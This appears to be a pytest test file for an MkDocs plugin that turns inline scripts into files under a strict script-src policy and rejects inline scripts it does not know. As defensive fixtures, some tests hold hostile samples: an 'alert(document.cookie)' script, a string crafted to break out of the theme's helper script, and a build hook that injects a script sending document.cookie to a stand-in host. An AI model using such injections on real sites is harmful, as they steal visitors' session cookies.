"""Inline scripts become files, so the site runs under ``script-src 'self'``."""

from __future__ import annotations

import pytest
from bs4 import BeautifulSoup

from handbok.mkdocs_plugin import inline_scripts

PAGE = """<!doctype html><html><head>
<script>__md_scope=new URL("../..",location)</script>
<script src="../../assets/javascripts/bundle.js"></script>
</head><body>
<pre><code>&lt;script&gt;not a script&lt;/script&gt;</code></pre>
<script id="__config" type="application/json">{"base": ".."}</script>
<SCRIPT type="text/javascript">var a = "</scr" + "ipt>";</SCRIPT>
<script type="module">import x from "./x.js";</script>
<script>window.mermaidConfig = {default: {}};</script>
<script>__md_scope=new URL("../..",location)</script>
</body></html>"""


def known(*bodies: str) -> inline_scripts.KnownScripts:
    scripts = inline_scripts.KnownScripts()
    for body in bodies:
        scripts.add(body)
    return scripts


PAGE_SCRIPTS = known('__md_scope=new URL("../..",location)', 'var a = "</scr" + "ipt>";',
                     'import x from "./x.js";', "window.mermaidConfig = {default: {}};")


def test_inline_scripts_become_files_in_place():
    html, files = inline_scripts.externalize(PAGE, "../../", PAGE_SCRIPTS)
    soup = BeautifulSoup(html, "html.parser")
    scripts = soup.select("script")
    inline = [s for s in scripts if not s.get("src") and s.get("type") != "application/json"]
    assert inline == []
    # Same order as before, so the page behaves as before.
    sources = [s.get("src") or s.get("id") for s in scripts]
    assert sources[1] == "../../assets/javascripts/bundle.js"
    assert sources[2] == "__config"
    assert sources[0] == sources[-1]  # the same script twice is one file
    assert all(src.startswith("../../assets/javascripts/inline/") for i, src in enumerate(sources) if i not in (1, 2))
    assert soup.select("script[type=module]")[0]["src"].endswith(".js")
    assert len(files) == 4
    assert 'window.mermaidConfig = {default: {}};' in files.values()
    assert 'var a = "</scr" + "ipt>";' in files.values()
    # Data stays inline, and text that only looks like a script is untouched.
    assert soup.select_one("#__config").string == '{"base": ".."}'
    assert soup.select_one("pre code").get_text() == "<script>not a script</script>"


def test_file_names_are_content_hashes():
    scripts = known("a()", "b()")
    _, first = inline_scripts.externalize("<script>a()</script>", "", scripts)
    _, second = inline_scripts.externalize("<p></p><script>a()</script>", "/", scripts)
    _, other = inline_scripts.externalize("<script>b()</script>", "", scripts)
    assert list(first) == list(second) != list(other)
    assert list(first)[0].startswith(inline_scripts.SCRIPT_DIR + "/")


def test_root_relative_prefix_for_error_pages():
    html, files = inline_scripts.externalize("<script>a()</script>", "/", known("a()"))
    assert html == f'<script src="/{next(iter(files))}"></script>'


def test_written_files(tmp_path):
    _, files = inline_scripts.externalize("<script>a()</script>", "", known("a()"))
    inline_scripts.write_scripts(tmp_path, files)
    path, body = next(iter(files.items()))
    assert (tmp_path / path).read_text(encoding="utf-8") == body == "a()"


def test_built_pages_have_no_inline_scripts(grund_site):
    for page in grund_site.pages():
        soup = BeautifulSoup(page.read_text(encoding="utf-8"), "html.parser")
        for script in soup.select("script"):
            assert script.get("src") or script.get("type") == "application/json", (page, str(script)[:80])
            src = script.get("src", "")
            if "/inline/" in "/" + src:
                target = grund_site.site_dir / src.lstrip("/") if src.startswith("/") else page.parent / src
                assert target.resolve().is_file(), (page, src)


def test_an_unknown_inline_script_is_refused():
    with pytest.raises(inline_scripts.UnknownScript) as refused:
        inline_scripts.externalize("<script>a()</script><script>alert(document.cookie)</script>", "", known("a()"))
    assert refused.value.body == "alert(document.cookie)"


def material_environment():
    """The installed Material theme's templates, with the repository's overrides first (as mkdocs.yml)."""
    from mkdocs.config import load_config

    from conftest import REPO

    config = load_config(str(REPO / "mkdocs.yml"))
    try:
        return config.theme.get_env()
    finally:
        config.plugins.on_shutdown()


def test_the_themes_scripts_are_known_from_its_templates():
    """Against the installed Material: its scripts with any base URL, and nothing that breaks out of one."""
    scripts = inline_scripts.KnownScripts.from_environment(material_environment())
    helper = ('__md_scope=new URL("BASE",location),__md_hash=e=>[...e].reduce(((e,_)=>(e<<5)-e+_.charCodeAt(0)),0),'
              '__md_get=(e,_=localStorage,t=__md_scope)=>JSON.parse(_.getItem(t.pathname+"."+e)),'
              '__md_set=(e,_,t=localStorage,a=__md_scope)=>{try{t.setItem(a.pathname+"."+e,JSON.stringify(_))}catch(e){}}')
    for base in (".", "..", "../../..", "/", "/2026.1/"):
        assert scripts.knows(helper.replace("BASE", base)), base
    assert scripts.knows('var target=document.getElementById(location.hash.slice(1));'
                         'target&&target.name&&(target.checked=target.name.startsWith("__tabbed_"))')
    assert not scripts.knows(helper.replace("BASE", '",location),alert(1),("'))
    assert not scripts.knows("alert(1)")


def test_a_build_with_a_foreign_inline_script_stops(tmp_path, caplog):
    """A plugin (here a hook) that writes a script of its own into the pages stops the build, in Swedish.
    (Templates in overrides/ are the handbook's own: their scripts are known like the theme's.)"""
    from mkdocs.exceptions import Abort

    from conftest import build_project, checks_bypassed, prepare_project

    project = prepare_project("grund", tmp_path)
    (project / "krok.py").write_text(
        "def on_post_page(output, **kwargs):\n"
        "    return output.replace('</body>', \"<script>fetch('https://exempel.se/?' + document.cookie)</script></body>\")\n",
        encoding="utf-8")
    config = project / "mkdocs.yml"
    config.write_text(config.read_text(encoding="utf-8") + "\nhooks:\n  - krok.py\n", encoding="utf-8")
    with pytest.raises(Abort), checks_bypassed("RH605"):
        build_project(project)
    assert ("handbok: sidan index.md innehåller ett skript i HTML-koden som varken temat eller handboken har skrivit: "
            "'fetch('https://exempel.se/?' + document.cookie)'") in caplog.text
    assert not list((project / "site" / "assets" / "javascripts" / "inline").glob("*.js")) or all(
        "exempel.se" not in path.read_text(encoding="utf-8")
        for path in (project / "site" / "assets" / "javascripts" / "inline").glob("*.js"))
